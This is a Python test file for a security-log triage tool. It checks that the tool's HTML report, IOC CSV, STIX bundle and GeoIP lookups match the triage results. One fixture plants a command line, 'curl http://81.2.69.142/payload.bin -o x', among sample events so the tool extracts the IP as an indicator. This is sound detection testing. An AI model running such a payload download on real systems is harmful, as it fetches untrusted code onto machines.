"""report.html parsed back: every section present, counts equal to the result's."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pandas as pd
import pytest
import stix2

from asisdk.data import ATTRIBUTION, sample_events_frame
from asisdk.executors import InlineExecutor
from asisdk.geo import GeoIpDatabase
from asisdk.pipeline import (
    OUTPUT_FILES,
    SECTIONS,
    TriageResult,
    load_events,
    render_report,
    run_triage,
    triage_summary,
    write_report,
)
from asisdk.pipeline._report import REPORT_FINDINGS

from .reportpage import read_page


def test_sample_report_sections_and_counts(sample_result: TriageResult) -> None:
    page = read_page(render_report(sample_result, data_attribution=[ATTRIBUTION], timeline="svg"))
    assert list(page.sections) == list(SECTIONS)
    assert page.sections["decoded"] == str(len(sample_result.decoded))
    assert page.sections["iocs"] == str(len(sample_result.iocs))
    assert page.sections["patterns"] == str(len(sample_result.rare_patterns))
    assert page.sections["findings"] == str(len(sample_result.findings))
    assert page.sections["input"] == "0"
    # Identical decoded payloads are shown once, with their count.
    decoded = sample_result.decoded
    keys = decoded.assign(key=decoded["sha256"].fillna(decoded["decoded_text"]))
    distinct = keys.drop_duplicates(["key", "encoding"])
    assert page.body_rows["decoded-table"] == len(distinct) < len(sample_result.decoded)
    assert page.tables["findings-table"] == len(sample_result.findings)
    assert page.body_rows["findings-table"] == min(REPORT_FINDINGS, len(sample_result.findings))
    assert page.tables["iocs-table"] == page.body_rows["iocs-table"] == len(sample_result.iocs)
    assert page.body_rows["patterns-table"] == len(sample_result.rare_patterns)
    summary = triage_summary(sample_result)
    assert page.summary["events"] == "642"
    assert page.summary["decoded_payloads"] == str(summary["decoded_payloads"])
    assert page.summary["rare_patterns"] == f"{summary['rare_patterns']:,}"
    text = "".join(page.text)
    assert "OTRF Security Datasets" in text
    assert "Not asked (run with --vt" in text


def test_report_is_self_contained(sample_result: TriageResult) -> None:
    html = render_report(sample_result, timeline="svg")
    page = read_page(html)
    assert all(s.get("src") is None for s in page.scripts)
    assert all(not (link.get("href") or "").startswith("http") for link in page.links)
    assert not re.search(r"""(src|href)=["']https?://""", html)
    data = next(s for s in page.scripts if s.get("id") == "timeline-data")
    assert data.get("type") == "application/json"
    assert page.sections["timeline"] == "642"
    assert len(html) < 2_000_000


def test_bokeh_timeline_is_inlined_when_installed(sample_result: TriageResult) -> None:
    pytest.importorskip("bokeh", reason="bokeh comes with the notebook extra")
    html = render_report(sample_result, timeline="bokeh")
    page = read_page(html)
    assert 'data-engine="bokeh"' in html
    assert all(s.get("src") is None for s in page.scripts)  # bokeh's JS is inline


def test_skipped_rows_are_in_the_report_and_summary(tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    sample_events_frame().head(25).to_csv(path, index=False)
    with path.open("a", encoding="utf-8") as stream:
        stream.write("too,few\n")
    result = run_triage(load_events([path]), executor=InlineExecutor())
    page = read_page(render_report(result, timeline="svg"))
    assert page.sections["input"] == "1"
    assert page.summary["skipped_rows"] == "1"
    assert page.body_rows["problems-table"] == 1
    assert "expected 19 fields" in "".join(page.text)


def test_write_report_writes_every_file(tmp_path: Path, geo_test_db: Path) -> None:
    frame = sample_events_frame().head(60).copy()
    frame.loc[5, "CommandLine"] = "curl http://81.2.69.142/payload.bin -o x"
    with GeoIpDatabase(geo_test_db, stale_after=None) as geo:
        result = run_triage(load_events_from(frame, tmp_path), executor=InlineExecutor(), geo=geo)
    result, files = write_report(result, tmp_path / "out", timeline="svg")
    assert list(files) == list(OUTPUT_FILES)
    assert all(path.is_file() for path in files.values())
    assert all(path.stat().st_size > 0 for path in files.values())
    events = pd.read_parquet(files["events.parquet"])
    assert len(events) == 60
    assert "pattern_id" in events.columns
    iocs = pd.read_csv(files["iocs.csv"])
    london = iocs[iocs["observable"] == "81.2.69.142"].iloc[0]
    assert london["city"] == "London"
    assert london["geo_status"] == "found"
    assert len(pd.read_csv(files["clusters.csv"])) == len(result.patterns)
    assert len(pd.read_csv(files["decoded.csv"])) == len(result.decoded)
    bundle = stix2.parse(files["iocs.stix.json"].read_text(encoding="utf-8"))
    assert any(getattr(o, "value", None) == "81.2.69.142" for o in bundle.objects)
    page = read_page(files["report.html"].read_text(encoding="utf-8"))
    assert page.summary["public_ips_located"] == "1"
    assert page.body_rows["geo-table"] == 1
    assert "MaxMind" in "".join(page.text) or "GeoLite2" in "".join(page.text)
    assert [t.stage for t in result.timings] == [
        "decode",
        "iocs",
        "patterns",
        "geo",
        "findings",
        "report",
    ]
    json.dumps(triage_summary(result), default=str)


def load_events_from(frame: pd.DataFrame, folder: Path):  # type: ignore[no-untyped-def]
    path = folder / "events.parquet"
    frame.to_parquet(path)
    return load_events([path])
